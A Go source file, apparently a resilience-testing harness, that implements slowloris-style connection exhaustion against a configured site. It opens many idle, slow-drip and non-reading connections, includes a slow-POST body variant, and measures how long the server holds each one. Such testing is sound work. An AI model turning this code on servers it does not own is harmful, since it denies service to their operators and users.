package attack

import (
	"context"
	"errors"
	"io"
	"net"
	"os"
	"slices"
	"strings"
	"sync"
	"time"
)

// A Crowd is connections that are held against a server.
type Crowd struct {
	stop context.CancelFunc
	done sync.WaitGroup

	mu    sync.Mutex // guards what follows
	conns []net.Conn
	slow  []net.Conn
}

// crowding is how long a crowd may take to get together: a server that is full
// lets others wait.
const crowding = 20 * time.Second

// Crowd opens connections: slow ones send a head byte by byte, idle ones say
// nothing, deaf ones ask for much and take nothing. It goes on without those that
// are refused.
func (s Site) Crowd(ctx context.Context, slow, idle, deaf int) *Crowd {
	ctx, stop := context.WithCancel(ctx)
	c := &Crowd{stop: stop}
	const atOnce = 32
	until := time.Now().Add(crowding)
	var all sync.WaitGroup
	for worker := range atOnce {
		all.Go(func() {
			for i := worker; i < slow+idle+deaf && time.Now().Before(until); i += atOnce {
				if conn, err := s.dial(i); err == nil {
					c.join(conn, s.head(), i < slow, i >= slow+idle)
				}
			}
		})
	}
	all.Wait()
	c.done.Go(func() { c.drip(ctx) })
	return c
}

// join makes a connection one of the crowd. Who is hung up on is counted later.
func (c *Crowd) join(conn net.Conn, head string, slow, deaf bool) {
	switch {
	case slow:
		_, _ = io.WriteString(conn, head+"X-Slow: ")
	case deaf:
		_ = conn.SetWriteDeadline(time.Now().Add(time.Second))
		_, _ = io.WriteString(conn, strings.Repeat(head+"\r\n", 200))
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.conns = append(c.conns, conn)
	if slow {
		c.slow = append(c.slow, conn)
	}
}

func (s Site) head() string { return "GET " + s.Feed + " HTTP/1.1\r\nHost: x\r\n" }

// drip gives each slow request one byte more, every second.
func (c *Crowd) drip(ctx context.Context) {
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		for _, conn := range c.slow {
			_, _ = io.WriteString(conn, "a") // as above
		}
	}
}

// Open is how many connections the server still holds.
func (c *Crowd) Open() int {
	var open int
	var mu sync.Mutex // guards open
	var all sync.WaitGroup
	for part := range slices.Chunk(c.conns, 64) {
		all.Go(func() {
			for _, conn := range part {
				_ = conn.SetReadDeadline(time.Now().Add(time.Millisecond))
				if _, err := io.Copy(io.Discard, conn); errors.Is(err, os.ErrDeadlineExceeded) {
					mu.Lock()
					open++
					mu.Unlock()
				}
			}
		})
	}
	all.Wait()
	return open
}

// Close hangs up.
func (c *Crowd) Close() {
	c.stop()
	c.done.Wait()
	for _, conn := range c.conns {
		_ = conn.Close() // nothing more is expected of it
	}
}

// A Slowness is a way to take long for a request.
type Slowness struct {
	Name  string
	first func(Site) string
	drip  string // sent every second after it
}

// Slownesses are the ways that are tried.
var Slownesses = []Slowness{
	{"half a head, then silence", func(s Site) string { return s.head() + "X-Slow: " }, ""},
	{"a head byte by byte", func(s Site) string { return s.head() + "X-Slow: " }, "a"},
	{"a body byte by byte", func(s Site) string {
		return "POST " + s.Feed + " HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n"
	}, "a"},
	{"nothing at all", func(Site) string { return "" }, ""},
	{"nothing more after an answer", func(s Site) string { return "HEAD " + s.Feed + " HTTP/1.1\r\nHost: x\r\n\r\n" }, ""},
}

// Holds is how long a slow client keeps its connection, at most limit.
func (s Site) Holds(n int, how Slowness, limit time.Duration) (time.Duration, error) {
	c, err := s.dial(n)
	if err != nil {
		return 0, err
	}
	defer func() { _ = c.Close() }() // nothing more is expected of it
	start := time.Now()
	if err := c.SetDeadline(start.Add(limit)); err != nil {
		return 0, err
	}
	gone := make(chan struct{})
	go func() {
		defer close(gone)
		_, _ = io.Copy(io.Discard, c) // until it ends, in whatever way
	}()
	_, _ = io.WriteString(c, how.first(s))
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for {
		select {
		case <-gone:
			return min(time.Since(start), limit), nil
		case <-tick.C:
			_, _ = io.WriteString(c, how.drip)
		}
	}
}
